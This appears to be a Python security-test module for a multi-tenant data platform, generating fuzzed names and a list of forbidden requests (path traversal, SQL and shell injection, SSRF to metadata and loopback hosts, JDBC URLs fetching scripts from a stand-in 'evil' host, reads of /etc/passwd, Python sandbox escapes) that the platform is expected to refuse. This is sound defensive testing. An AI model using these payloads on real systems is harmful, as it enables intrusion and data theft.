"""Names and requests that must not get through: made here, judged by what a platform answers and by what lies on its disk."""

import json
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

NAME_RULE = re.compile(r"[A-Za-z][A-Za-z0-9_-]{0,62}", re.ASCII)
_SEEDS = [
    "../", "..", ".", "/", "\\", "..\\", "%00", "\0", "%2e%2e%2f", "..%2f", "__consumer_offsets", "millrace.table-ops",
    "'", '"', "`", ";", "--", "' OR 1=1--", "$(id)", "${HOME}", "{{7*7}}", "\u202e", "\u200b", "é", "ﬁ", "İ", "\ud7ff", "😀",
    "\r\n", "\t", " ", "~", "*", "?", "<", ">", "|", ":", "CON", "nul.txt", "a" * 64, "a" * 300, "-rf", "_", "0", "con.",
    "a/b", "a%2Fb", "tenant", "acme", "A", "z9", "lake", "control.db", "client.json", "%", "%%", "+", "&", "=", "#", "@",
    "file:", "s3://",
]  # fmt: skip
PASSWD = "root:x:0:0"


def names(count: int, seed: int = 1) -> Iterator[str]:
    """First each of the known ones, then what chance makes of them."""
    chance = random.Random(seed)
    for number in range(count):
        if number < len(_SEEDS):
            yield _SEEDS[number]
            continue
        parts = [chance.choice(_SEEDS) for _ in range(chance.randint(1, 4))]
        if chance.random() < 0.5:
            parts.insert(chance.randrange(len(parts) + 1), chr(chance.randrange(1, 0xD7FF)))
        yield "".join(parts)


def in_path(name: str) -> str:
    return quote(name, safe="")


def paths_below(root: Path) -> set[str]:
    """Every file and folder there is, but for what lives and dies by itself."""
    return {str(path.relative_to(root)) for path in root.rglob("*") if not path.name.startswith("control.db")}


@dataclass(frozen=True, slots=True)
class Attempt:
    label: str
    method: str
    path: str
    body: Any = None
    form: dict[str, Any] = field(default_factory=dict)


def _table(**more: Any) -> dict[str, Any]:
    schema = {"type": "record", "name": "notes", "fields": [{"name": "id", "type": "long"}]}
    return {"schema": schema, "primary_key": ["id"], **more}


def _sink(kind: str, **settings: Any) -> dict[str, Any]:
    return _table(sinks=[{"kind": kind, "name": "out", **settings}])


def _postgres(**settings: Any) -> dict[str, Any]:
    return _sink(
        "postgres", **{"host": "db.example", "database": "d", "user": "u", "password": "vault:db#password", **settings}
    )


_HOSTS = [
    "169.254.169.254", "localhost", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "017700000001",
    "0.0.0.0", "10.0.0.1", "192.168.0.1", "[fd00::1]", "metadata.google.internal@127.0.0.1", "127.1",
]  # fmt: skip
_URLS = ["file:///etc/passwd", "ftp://x/", "gopher://x/", "https://", "https://a:b@c/", "javascript:1"]
_JDBC = [
    "db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "db/x?socketFactoryArg=http://evil/x.xml", "db?allowLoadLocalInfile=true", "db?autoDeserialize=true",
    "db&sslfactory=x", "db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:mem:x", "(host=a,port=1)", "a,b", "a/b", "a\\b",
    "a#b", "a b", "a\nb", "a%00", "user@host", "host:5432", "", "-x", "ldap://evil",
]  # fmt: skip
_SQL = [
    "select * from read_csv('/etc/passwd')", "select * from '/etc/passwd'", "copy (select 1) to '/tmp/x'",
    "attach '/tmp/x.db'",
    "install httpfs", "load httpfs", "pragma database_list", "select getenv('HOME')", "create table x as select 1",
    "select * from read_text('/etc/passwd')", "select * from glob('/etc/*')", "set threads=64", "select 1; select 2",
    "select * from other.notes", "call pragma_version()", "export database '/tmp/x'",
]  # fmt: skip
_RULES = [
    "__import__('os').system('id')", "open('/etc/passwd').read()", "().__class__.__bases__", "id.__class__", "lambda: 1",
    "[x for x in (1,)]", "exec('1')", "id if 1 else __builtins__", "f'{id}'", "id ** 10 ** 10",
    "(" * 5000 + "id" + ")" * 5000,
]  # fmt: skip


def _deep(levels: int) -> dict[str, Any]:
    kind: Any = "long"
    for level in range(levels):
        kind = {"type": "record", "name": f"r{level}", "fields": [{"name": "x", "type": kind}]}
    return {"schema": {"type": "record", "name": "notes", "fields": [{"name": "x", "type": kind}]}}


def attempts(tenant: str = "acme") -> list[Attempt]:
    """What a tenant's admin might try; each must be refused."""
    # Without a try to connect: what is refused only because nobody answers would prove nothing.
    table, hooks = f"/v1/tenants/{tenant}/tables/notes?check=false", f"/v1/tenants/{tenant}/subscriptions"
    recursive = {"type": "record", "name": "notes", "fields": [{"name": "next", "type": ["null", "notes"]}]}
    many = {"type": "record", "name": "notes", "fields": [{"name": f"c{n}", "type": "long"} for n in range(100_000)]}
    union = [{"type": "fixed", "name": f"f{n}", "size": 1} for n in range(100_000)]
    urls = [*(f"https://{host}/" for host in _HOSTS), *_URLS]
    # Each by a name of its own: what is refused because the name is taken would prove nothing.
    tried = [Attempt(f"webhook {url}", "POST", hooks, {"name": f"h{n}", "url": url}) for n, url in enumerate(urls)]
    tried += [Attempt(f"PostgreSQL at {host!r}", "PUT", table, _postgres(host=host)) for host in (*_JDBC, *_HOSTS)]
    tried += [
        Attempt(f"Kafka property {name}", "PUT", table, _sink("kafka", hosts=["broker.example"], **{name: value}))
        for name, value in (
            ("sasl.jaas.config", "com.sun.security.auth.module.JndiLoginModule required;"),
            ("ssl.ca.location", "/etc/passwd"),
            ("sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd"),
            ("plugin.library.paths", "/tmp/x.so"),
        )
    ]
    tried += [
        Attempt(f"secret {ref!r}", "PUT", table, _postgres(password=ref))
        for ref in (
            "file:/etc/passwd",
            "file:../client.json",
            "k8s:../../x",
            "k8s:millrace/millrace-secrets/token",
            "vault:../other/db#password",
            "vault:/other/db#password",
            "env:MILLRACE_SECRET_OTHER_DB",
            "env:MILLRACE_SECRET_ACME__B_DB",
            "file:other/db",
            "file:acme/../other/db",
            "plain",
        )
    ]
    tried += [Attempt(f"query {sql}", "POST", "/v1/query", {"sql": sql}) for sql in _SQL]
    tried += [
        Attempt(f"rule {text[:40]}", "PUT", table, _table(rules=[{"name": "r", "check": text}])) for text in _RULES
    ]
    tried += [
        Attempt("recursive schema", "PUT", table, {"schema": recursive}),
        Attempt("a schema 200 deep", "PUT", table, _deep(200)),
        Attempt("100,000 columns", "PUT", table, {"schema": many}),
        Attempt(
            "a union of 100,000", "PUT", table, {"schema": {**recursive, "fields": [{"name": "x", "type": union}]}}
        ),
        Attempt("a class of Java's", "PUT", table, {"schema": {"type": "java.lang.Runtime", "name": "notes"}}),
        Attempt("another's table", "PUT", "/v1/tenants/other/tables/notes", _table()),
        Attempt("its own agreement", "PUT", f"/v1/tenants/{tenant}", {"quotas": {}}),
        Attempt("an operator's token", "POST", "/v1/tokens", {"name": "x", "role": "operator"}),
        Attempt("files in a bucket with a path out", "PUT", table, _sink("files", location="file:///etc")),
        Attempt("files above its folder", "PUT", table, _sink("files", location="s3://b/../../x")),
    ]
    tried += [
        Attempt(f"file named {name!r}", "POST", f"/upload-file/{tenant}", form={"name": name})
        for name in ("../../x.csv", "/etc/cron.d/x", "a\0b.csv", ".hidden", "..", "C:\\x.csv")
    ]
    return tried


def got_through(attempt: Attempt, status: int, text: str) -> bool:
    """Done although it must not be, a part of the platform broken by it, or something told that nobody may know."""
    return not 400 <= status < 500 or PASSWD in text


def body_of(attempt: Attempt) -> bytes | None:
    return None if attempt.body is None else json.dumps(attempt.body).encode()
